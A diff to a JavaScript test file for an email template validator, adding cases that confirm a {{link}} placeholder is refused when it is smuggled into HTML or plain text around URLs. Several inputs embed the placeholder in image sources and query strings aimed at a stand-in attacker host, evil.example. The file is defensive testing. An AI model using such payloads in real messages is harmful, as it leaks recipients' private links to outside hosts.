@@ -141,6 +141,10 @@ test('contents that could not be sent are refused, with the place and what would
       [mail('S', block('html', '<img src="https://evil.example/?{{link}}">')), /\{\{link\}\} stands alone/],
       [mail('S', block('html', '<img src="{{link}}">')), /no value is possible in an attribute, but \{\{link\}\} and \{\{url\}\} as the whole of an href\.$/],
       [mail('S', block('html', '<a href="{{link}}">https://evil.example/?{{link}}</a>')), /\{\{link\}\} stands alone/],
+      ...[`https://evil.example/?u='{{link}}`, 'https://evil.example/?u=<b>{{link}}</b>', 'https://evil.example/?u=<a href="{{link}}"><i>{{link}}</i></a>', '<b>{{link}}</b>.evil.example', '{{link}}<span>{{desk}}</span>', '<b>{{link}}</b><i>{{link}}</i>']
+        .map((html) => [mail('S', block('html', `<p>${html}</p>`)), /\{\{link\}\} stands alone/]),
+      ...['<https://evil.example/?u= {{link}}>', '<https://evil.example/?u=\n{{link}}\n>', '"https://evil.example/?u= {{link}}"', '<x <{{link}}> {{link}}\n< {{link}}>']
+        .map((text) => [block('subject', 'S') + block('text', text), /\{\{link\}\} stands alone/]),
       [mail('S', block('html', '<script>{{link}}</script>')), /this is no element of a template/],
       [mail('S {{nmae}}'), /Line 1, character 22: there is no such value here: \{\{desk\}\}, .* or \{\{life\}\} is expected\.$/],
       [mail('S {{form}}'), /there is no such value here/],
